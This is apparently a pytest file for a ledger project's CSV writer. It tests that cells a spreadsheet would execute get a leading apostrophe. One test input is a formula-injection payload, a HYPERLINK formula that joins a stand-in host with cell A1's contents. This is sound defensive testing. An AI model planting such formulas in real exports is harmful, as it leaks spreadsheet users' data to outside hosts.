# SPDX-License-Identifier: Apache-2.0
"""What we write as CSV is data to whatever opens it, and is written in one place."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest

import api
import ledger
from ledger.domain.csv_text import csv_text

FORMULA = '=HYPERLINK("https://example.invalid/"&A1)'


def read(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


@pytest.mark.parametrize("text", [FORMULA, "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "＝1", "＋1", "－1", "＠1"])
def test_a_text_that_a_spreadsheet_would_run_is_led_by_an_apostrophe(text: str) -> None:
    assert read(csv_text(["a", "b"], [[text, "plain"]])) == [["a", "b"], ["'" + text, "plain"]]


def test_numbers_and_harmless_texts_are_as_they_are() -> None:
    row = ["0x2d", "a=b", '中文, "quoted"', "", None, -5, 0]
    assert read(csv_text(list("abcdefg"), [row]))[1] == ["0x2d", "a=b", '中文, "quoted"', "", "", "-5", "0"]


def test_lines_end_as_is_asked() -> None:
    assert csv_text(["a"], [[1], [2]], end="\r\n") == "a\r\n1\r\n2\r\n"


@pytest.mark.parametrize("end", ["\n", "\r\n"])
def test_no_text_makes_two_lines_of_one(end: str) -> None:
    row = ["a\rb", "c\nd", "e\r\nf"]
    assert read(csv_text(["1", "2", "3"], [row], end=end))[1:] == [row]


def test_a_row_of_another_length_is_an_error_of_ours() -> None:
    with pytest.raises(ValueError, match="1 cells under 2 columns"):
        csv_text(["a", "b"], [["1"]])


def test_nobody_else_writes_csv() -> None:
    roots = [Path(package.__file__ or "").parent for package in (ledger, api)]
    found = [path for root in roots for path in root.rglob("*.py")
             if re.search(r"\bcsv\.(writer|DictWriter)\b|from csv import", path.read_text("utf-8"))]  # fmt: skip
    assert [path.name for path in found] == ["csv_text.py"]
